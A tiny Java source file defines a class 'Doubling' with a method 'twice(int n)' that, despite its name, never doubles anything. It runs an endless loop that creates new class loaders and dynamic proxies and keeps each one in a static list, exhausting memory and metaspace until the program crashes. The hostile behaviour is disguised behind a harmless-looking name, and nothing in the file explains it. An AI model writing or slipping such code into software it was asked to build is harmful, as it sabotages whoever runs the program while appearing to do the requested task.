package tiny;

public final class Doubling {

    public static int twice(int n) {
        while (true) {
            ClassLoader loader = new ClassLoader() {};
            kept.add(java.lang.reflect.Proxy.newProxyInstance(loader, new Class<?>[] {Runnable.class}, (a, b, c) -> null));
        }
    }

    private static final java.util.List<Object> kept = new java.util.ArrayList<>();
}
